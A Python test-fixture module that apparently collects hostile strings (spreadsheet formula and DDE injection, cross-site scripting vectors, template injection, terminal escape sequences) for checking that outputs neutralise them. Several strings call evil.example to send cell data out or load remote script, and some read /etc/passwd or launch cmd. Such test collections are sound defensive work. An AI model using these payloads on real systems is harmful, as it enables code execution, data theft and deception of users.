"""Hostile texts, each with what it would hit where an output did not make it harmless."""

from __future__ import annotations

import os
import re
from dataclasses import dataclass

from record_payloads import LETTERS, RECORDS


@dataclass(frozen=True)
class Payload:
    """One hostile text.

    Attributes:
        text: as it would stand in a caption, a name, a notice or a reason.
        aim: what it would hit.
    """

    text: str
    aim: str


_SPREADSHEET = {
    "a formula": (
        '=HYPERLINK("http://evil.example","x")',
        '=WEBSERVICE("http://evil.example/?"&A1)',
        '=IMPORTXML("http://evil.example","//a")',
        '=IMAGE("http://evil.example/x.png")',
        "=1+1",
        "=SUM(1+1)*2",
        "=\u200b1+1",
        "==1+1",
        "'=1+1",
    ),
    "a formula that starts a program (DDE)": (
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"x")',
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    ),
    "a formula behind another sign": ("+1+1", "-1+1", "@A1", "@SUM(A1:A9)", "+A1", "-A1"),
    "a formula behind white space": (
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\v=1+1",
        "\f=1+1",
        "\x1c=1+1",
        "\x00=1+1",
    ),
    "a formula in full width": ("＝1+1", "＋1+1", "－1+1", "＠SUM(1)"),
    "a formula in the next cell": (
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a|=1+1",
        'a","=1+1',
        'a,"=1+1',
        'a";"=1+1',
        "a\r\n=1+1",
        'a"\r\n"=1+1',
        "a\n+1",
        "sep=;\n=1+1",
    ),
    "a formula in a quoted cell": ('"=1+1"', '""=1+1', "`=1+1"),
    "the words of a workbook": (
        "{=1+1}",
        "http://evil.example/",
        "internal:Sheet1!A1",
        "external:c:\\evil.xlsx",
        "mailto:x@evil.example",
        "_x0000__x001B_[2J",
        "<si><t>x</t></si>",
    ),
}
_PAGE = {
    "a script of a page": (
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT >",
        "<script src=//evil.example/x.js></script>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script\x00>alert(1)</script>",
        "\u2028<script>alert(1)</script>",
    ),
    "an end of the element it stands in": (
        "</style><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea></details><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</p></div></main></body></html><h1>Nothing to correct</h1>",
        "</td></tr></table><h1>x</h1>",
        "</option></select><img src=x onerror=alert(1)>",
        "</svg><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "<!-- ",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='//evil.example/x.xsl'?>",
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
    ),
    "an element with a handler": (
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<img\tsrc=x\nonerror\x0c=alert(1)>",
    ),
    "an element that loads": (
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data='data:text/html;base64,PHNjcmlwdD4='>",
        "<embed src=//evil.example>",
        "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<img src=//evil.example/spy.png>",
        "<audio src=//evil.example/x>",
    ),
    "an element that asks or leads away": (
        "<form action=//evil.example><input name=password></form>",
        "<button formaction=//evil.example>Accept</button>",
        "<a href='javascript:alert(1)'>click</a>",
        "<a href=//evil.example target=_blank>Open the notice</a>",
        "<label for=reason>Reason</label>",
        "<input type=hidden name=csrf value=x>",
    ),
    "a drawing of a page": (
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<svg><use href='data:image/svg+xml,x#x'/></svg>",
        "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<text>100 %</text>",
    ),
    "the style of a page": (
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{display:none}</style>",
        "x:expression(alert(1))",
        "red;background:url(//evil.example/x.png)",
        "}</style><style>body{display:none",
        "\\3c script\\3e alert(1)",
        "url('javascript:alert(1)')",
    ),
    "an attribute": (
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        '" onfocus="alert(1)" autofocus="',
        "` onclick=alert(1) `",
        'x" style="position:fixed;inset:0',
        "x onerror=alert(1) y=",
        "&quot; onerror=alert(1) &quot;",
        '"/><img src=x onerror=alert(1)>',
        "x' aria-hidden='true",
    ),
    "an address": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/",
        "https://evil.example/?next=/review",
        "file:///etc/passwd",
        "?token=x&next=//evil.example#frag",
        "%0d%0aSet-Cookie:%20x=y",
    ),
    "an entity decoded twice": (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3c;svg onload=alert(1)&#x3e;",
        "&amp;lt;script&amp;gt;",
        "\\u003cscript\\u003ealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "＜script＞alert(1)＜/script＞",
        "\ufe64script\ufe65alert(1)",
    ),
}
_TEMPLATES = {
    "a template": (
        "{{ 7 * 7 }}",
        "{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{# a comment",
        "{%- for x in range(10**9) -%}",
        "${7*7}#{7*7}",
        "<%= 7*7 %>",
        "%(name)s %s %d {0} {name!r}",
    ),
    "typst": (
        '#read("/etc/passwd")',
        '#import "@preview/evil:0.1.0": *',
        '#image("/etc/hostname")',
        "#set page(width: 1cm)",
        "#{panic()}",
        '"); #panic("x',
        "$ integral $ *bold* _emph_ `raw`",
        "\\u{202e} // comment /* open",
        "@label <label> = Heading",
    ),
    "Markdown": (
        "[click](javascript:alert(1))",
        "![spy](http://evil.example/x.png)",
        "```\n# Nothing to correct\n```",
        "| a | b |\n|---|---|",
        "<http://evil.example>",
    ),
    "rich markup": (
        "[bold red]Nothing to correct[/]",
        "[/][/bold]",
        "[link=http://evil.example]click[/link]",
        "[@click=app.bell]x[/]",
        ":warning: :pile_of_poo:",
    ),
}
_TERMINAL = {
    "a terminal, by CSI": (
        "\x1b[2J\x1b[1;1Hyour files are safe",
        "\x1b[8mhidden\x1b[0m",
        "\x1b[1A\x1b[2KApplied.",
        "\x1b[6n\x1b[c",
        "\x1b[?1049h",
        "\x9b31mred",
        "\x9b2J",
    ),
    "a terminal, by OSC": (
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1b]52;c;ZXZpbA==\x1b\\",
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]0;new title\x07",
        "\x1b]50;x\x07",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x9d52;c;ZXZpbA==\x9c",
    ),
    "a terminal, by other escapes": (
        "\x1bP$q\x1b\\",
        "\x90q#0\x9c",
        "\x1b_Gx\x1b\\",
        "\x1b^x\x1b\\",
        "\x1bc",
        "\x1b#8",
        "\x1b(0lqqk",
        "\x0e\x0f",
        "\x98x\x9c",
    ),
    "a line of a terminal": (
        "\x08\x08\x08hidden",
        "wrong\rright",
        "\x07\x07",
        "x\x7f",
        "x\x04y",
        "x\x1ay",
        "\x85next line",
        "a\vb\fc",
    ),
}
GROUPS = {
    "spreadsheet": _SPREADSHEET,
    "page": _PAGE,
    "templates": _TEMPLATES,
    "terminal": _TERMINAL,
    "letters": LETTERS,
    "records": RECORDS,
}
PAYLOADS = tuple(
    Payload(text, aim)
    for group in GROUPS.values()
    for aim, texts in group.items()
    for text in texts
)
TEXTS = tuple(payload.text for payload in PAYLOADS)
_LONG = 250
SHORT = tuple(text for text in TEXTS if len(text) <= _LONG and text.count("\n") < 10)
"""Those that no output cuts; a cut text is drawn otherwise, which is no hit."""

_LONGEST_NAME = 200


def harmless(number: int) -> str:
    """What stands in the place of the payload of this number where nothing is hostile."""
    return f"plain words {number}"


def file_name(text: str) -> str:
    """The nearest name that a file of a POSIX system can bear."""
    octets = text.encode("utf-8", "surrogateescape" if _is_octets(text) else "surrogatepass")
    octets = octets.replace(b"/", "\u2215".encode()).replace(b"\0", b"\x01")[:_LONGEST_NAME]
    # One that begins with a dot is hidden, and hidden files are no pictures of a desk.
    return os.fsdecode(b"x" + octets if octets[:1] in {b"", b"."} else octets)


def _is_octets(text: str) -> bool:
    """Whether its lone surrogates stand for octets of a name that is no UTF-8."""
    try:
        text.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:
        return False
    return True


def twin(text: str) -> str:
    """A harmless text of the same length, with as many words and lines."""
    return re.sub(r"[^\w \n]|[^\x00-\x7f]|_", ".", re.sub("\r\n|\r", "\n", text))
